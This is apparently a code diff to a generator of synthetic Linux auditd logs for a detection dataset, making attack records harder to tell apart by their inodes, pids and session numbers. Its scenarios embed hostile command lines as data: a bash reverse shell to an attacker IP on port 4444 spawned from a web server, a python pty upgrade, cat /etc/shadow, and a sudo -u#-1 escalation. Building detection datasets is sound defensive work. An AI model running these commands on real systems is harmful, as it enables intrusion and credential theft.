@@ -64,6 +64,8 @@ interface AuditEnv extends GenEnv {
   hosts: string[];
   serial: (host: string) => number;
   pid: () => number;
+  /** The inode of a path on a host: one per file, as long as the dataset runs. */
+  inode: (rng: Rng, node: string, path: string) => number;
   /**
    * Benign records due as the next benign events, in order: sshd's own USER_LOGIN res=failed
    * after an admin's failed password, a scanner connection's second record.
@@ -80,6 +82,16 @@ function forked(rng: Rng, e: AuditEnv): { pid: number; ppid: number } {
 /** A running parent of `pid`: an older, lower pid. */
 const parentOf = (rng: Rng, pid: number): number => Math.max(1, pid - rng.range(1, 400));
 
+/**
+ * The parent of a scenario's first process, drawn when that process starts, as benign
+ * parents are: drawn when the scenario is planned, it was one of the dataset's first pids,
+ * tens of thousands below its child (one field gave the attack away).
+ */
+function parentAtFirstUse(rng: Rng, child: () => number): () => number {
+  let ppid = 0;
+  return () => (ppid ||= parentOf(rng, child()));
+}
+
 const BIN: Record<string, string> = { ls: '/usr/bin/ls', systemctl: '/usr/bin/systemctl', cat: '/usr/bin/cat', bash: '/usr/bin/bash', sh: '/usr/bin/dash', ps: '/usr/bin/ps', grep: '/usr/bin/grep', find: '/usr/bin/find', sudo: '/usr/bin/sudo', curl: '/usr/bin/curl', git: '/usr/bin/git', tar: '/usr/bin/tar', python3: '/usr/bin/python3.10' };
 
 /** An execve event: SYSCALL, EXECVE, CWD, PATH x2, PROCTITLE. */
@@ -87,7 +99,7 @@ function execEvent(rng: Rng, env: AuditEnv, t: number, node: string, p: Proc, ar
   const comm = (argv[0] as string).split('/').pop()!.slice(0, 15);
   const exe = BIN[comm] ?? (argv[0]!.startsWith('/') ? (argv[0] as string) : `/usr/bin/${comm}`);
   const a = (): string => rng.hex(12).replace(/^0+/, '') || '0';
-  const inode = rng.range(100_000, 4_000_000);
+  const inode = env.inode(rng, node, exe);
   return {
     t, node, serial: env.serial(node),
     records: [
@@ -101,7 +113,7 @@ function execEvent(rng: Rng, env: AuditEnv, t: number, node: string, p: Proc, ar
       rec('CWD', [['cwd', p.cwd, 'str']]),
       // A setuid binary (sudo) runs with euid 0: its file mode carries the setuid bit.
       rec('PATH', [['item', 0, 'raw'], ['name', exe, 'str'], ['inode', inode, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', p.euid !== undefined && p.euid !== p.uid ? '0104755' : '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
-      rec('PATH', [['item', 1, 'raw'], ['name', '/lib64/ld-linux-x86-64.so.2', 'str'], ['inode', 1_311_001, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
+      rec('PATH', [['item', 1, 'raw'], ['name', '/lib64/ld-linux-x86-64.so.2', 'str'], ['inode', env.inode(rng, node, '/lib64/ld-linux-x86-64.so.2'), 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
       { type: 'PROCTITLE', body: `proctitle=${auditProctitle(argv)}`, fields: { proctitle: argv.join(' ') } },
     ],
   };
@@ -221,8 +233,10 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const rootConnections = rng.range(2, 3);
       for (let c = 0; c < rootConnections; c++) connection('root', c === 0 ? SSHD_MAX_AUTH_TRIES : rng.range(2, SSHD_MAX_AUTH_TRIES));
       const pid = pidAtFirstUse(e.pid);
+      // The session number of a login, as the benign admins' logins get theirs.
+      const ses = rng.range(1, 40);
       steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid: pid(), uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', 'root', '/usr/sbin/sshd', ip, 'ssh', true));
-      steps.push((t) => pamEvent(e, t, node, 'USER_LOGIN', { pid: pid(), uid: 0, auid: 0, ses: 901 }, 'login', 'root', '/usr/sbin/sshd', ip, '/dev/pts/3', true));
+      steps.push((t) => pamEvent(e, t, node, 'USER_LOGIN', { pid: pid(), uid: 0, auid: 0, ses }, 'login', 'root', '/usr/sbin/sshd', ip, '/dev/pts/3', true));
       return steps;
     },
   },
@@ -235,9 +249,8 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
       const ip = attackerIp(rng, env);
-      // The web server predates the attack; each process of the chain forks at its step, the
-      // child of the one before.
-      const web = e.pid();
+      // Each process of the chain forks at its step, the child of the one before; the first
+      // is the web server's (an older pid).
       const chain = [
         ['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`],
         ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`],
@@ -245,8 +258,9 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
         ['python3', '-c', 'import pty; pty.spawn("/bin/bash")'],
       ];
       const pids = chain.map(() => pidAtFirstUse(e.pid));
+      const web = parentAtFirstUse(rng, pids[0]!);
       return chain.map((argv, k) => (t: number) =>
-        execEvent(rng, e, t, node, { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: pids[k]!(), ppid: k === 0 ? web : pids[k - 1]!(), tty: '(none)', cwd: '/var/www/html', key: 'exec' }, argv),
+        execEvent(rng, e, t, node, { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: pids[k]!(), ppid: k === 0 ? web() : pids[k - 1]!(), tty: '(none)', cwd: '/var/www/html', key: 'exec' }, argv),
       );
     },
   },
@@ -258,18 +272,20 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
     steps(rng, env) {
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
-      // cat forks when its exec is written; its login shell (ppid) predates the attack.
-      const shell = e.pid();
+      // One of the admins, root by now (auid keeps the login's uid, ses its session); cat
+      // forks when its exec is written, under the root shell (an older pid).
+      const k = rng.int(ADMINS.length);
       const cat = pidAtFirstUse(e.pid);
-      const p: Omit<Proc, 'pid'> = { user: 'deploy', uid: 0, auid: 1008, ses: 77, ppid: shell, tty: 'pts1', cwd: '/tmp', key: 'exec' };
+      const shell = parentAtFirstUse(rng, cat);
+      const p: Omit<Proc, 'pid' | 'ppid'> = { user: 'root', uid: 0, auid: 1000 + k, ses: rng.range(1, 40), tty: `pts${rng.int(4)}`, cwd: `/home/${ADMINS[k]!}`, key: 'exec' };
       return [
-        (t) => execEvent(rng, e, t, node, { ...p, pid: cat() }, ['cat', '/etc/shadow']),
+        (t) => execEvent(rng, e, t, node, { ...p, pid: cat(), ppid: shell() }, ['cat', '/etc/shadow']),
         (t) => ({
           t, node, serial: e.serial(node),
           records: [
-            rec('SYSCALL', [['arch', 'c000003e', 'raw'], ['syscall', 257, 'raw'], ['success', 'yes', 'raw'], ['exit', 3, 'raw'], ['a0', 'ffffff9c', 'raw'], ['a1', '7ffd5e1c8f2a', 'raw'], ['a2', 0, 'raw'], ['a3', 0, 'raw'], ['items', 1, 'raw'], ['ppid', p.ppid, 'raw'], ['pid', cat(), 'raw'], ['auid', p.auid, 'raw'], ['uid', 0, 'raw'], ['gid', 0, 'raw'], ['euid', 0, 'raw'], ['suid', 0, 'raw'], ['fsuid', 0, 'raw'], ['egid', 0, 'raw'], ['sgid', 0, 'raw'], ['fsgid', 0, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'], ['comm', 'cat', 'str'], ['exe', '/usr/bin/cat', 'str'], ['subj', 'unconfined', 'raw'], ['key', 'shadow', 'str']]),
+            rec('SYSCALL', [['arch', 'c000003e', 'raw'], ['syscall', 257, 'raw'], ['success', 'yes', 'raw'], ['exit', 3, 'raw'], ['a0', 'ffffff9c', 'raw'], ['a1', '7ffd5e1c8f2a', 'raw'], ['a2', 0, 'raw'], ['a3', 0, 'raw'], ['items', 1, 'raw'], ['ppid', shell(), 'raw'], ['pid', cat(), 'raw'], ['auid', p.auid, 'raw'], ['uid', 0, 'raw'], ['gid', 0, 'raw'], ['euid', 0, 'raw'], ['suid', 0, 'raw'], ['fsuid', 0, 'raw'], ['egid', 0, 'raw'], ['sgid', 0, 'raw'], ['fsgid', 0, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'], ['comm', 'cat', 'str'], ['exe', '/usr/bin/cat', 'str'], ['subj', 'unconfined', 'raw'], ['key', 'shadow', 'str']]),
             rec('CWD', [['cwd', p.cwd, 'str']]),
-            rec('PATH', [['item', 0, 'raw'], ['name', '/etc/shadow', 'str'], ['inode', 1_572_903, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100640', 'raw'], ['ouid', 0, 'raw'], ['ogid', 42, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
+            rec('PATH', [['item', 0, 'raw'], ['name', '/etc/shadow', 'str'], ['inode', e.inode(rng, node, '/etc/shadow'), 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100640', 'raw'], ['ouid', 0, 'raw'], ['ogid', 42, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
             { type: 'PROCTITLE', body: `proctitle=${auditProctitle(['cat', '/etc/shadow'])}`, fields: { proctitle: 'cat /etc/shadow' } },
           ],
         }),
@@ -285,20 +301,21 @@ const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
       const e = env as AuditEnv;
       const node = rng.pick(e.hosts);
       const uid = 1004;
-      // erin's shell predates the attack. sudo is exec'd first (setuid root: euid 0), then asks
+      // sudo is exec'd first (setuid root: euid 0) from erin's shell (an older pid), then asks
       // for the password up to three times from that process; its root shell forks last.
-      const shell = e.pid();
       const sudo = pidAtFirstUse(e.pid);
-      const h = () => ({ pid: sudo(), uid, auid: uid, ses: 12 });
+      const shell = parentAtFirstUse(rng, sudo);
+      const ses = rng.range(1, 40);
+      const h = () => ({ pid: sudo(), uid, auid: uid, ses });
       const auth = (ok: boolean) => (t: number) => pamEvent(e, t, node, 'USER_AUTH', h(), 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', ok);
       return [
-        (t) => execEvent(rng, e, t, node, { user: 'erin', uid, euid: 0, auid: uid, ses: 12, pid: sudo(), ppid: shell, tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['sudo', '-u#-1', '/bin/bash']),
+        (t) => execEvent(rng, e, t, node, { user: 'erin', uid, euid: 0, auid: uid, ses, pid: sudo(), ppid: shell(), tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['sudo', '-u#-1', '/bin/bash']),
         auth(false),
         auth(false),
         auth(true),
         (t) => ({ t, node, serial: e.serial(node), records: [userRec('USER_CMD', h(), [['cwd', '/home/erin', 'str'], ['cmd', '/bin/bash', 'str'], ['exe', '/usr/bin/sudo', 'str'], ['terminal', 'pts/2', 'raw'], ['res', 'success', 'raw']])] }),
         // sudo execs the command as given, argv[0] included.
-        (t) => execEvent(rng, e, t, node, { user: 'root', uid: 0, auid: uid, ses: 12, pid: e.pid(), ppid: sudo(), tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['/bin/bash']),
+        (t) => execEvent(rng, e, t, node, { user: 'root', uid: 0, auid: uid, ses, pid: e.pid(), ppid: sudo(), tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['/bin/bash']),
       ];
     },
   },
@@ -318,6 +335,7 @@ export const auditd: LogTypeDef<AuditdEvent> = {
     const hosts = hostNames(rng, 4);
     const serials = new Map(hosts.map((h) => [h, rng.range(1000, 900_000)]));
     let pid = rng.range(2000, 40000);
+    const inodes = new Map<string, number>();
     return {
       req, rng, hosts,
       serial: (h) => {
@@ -326,6 +344,12 @@ export const auditd: LogTypeDef<AuditdEvent> = {
         return s;
       },
       pid: () => (pid = pid >= 4_194_000 ? 300 : pid + 1 + (pid % 5)),
+      inode: (r, node, path) => {
+        const key = `${node}\u0000${path}`;
+        let n = inodes.get(key);
+        if (n === undefined) inodes.set(key, (n = r.range(100_000, 4_000_000)));
+        return n;
+      },
       due: [],
     };
   },
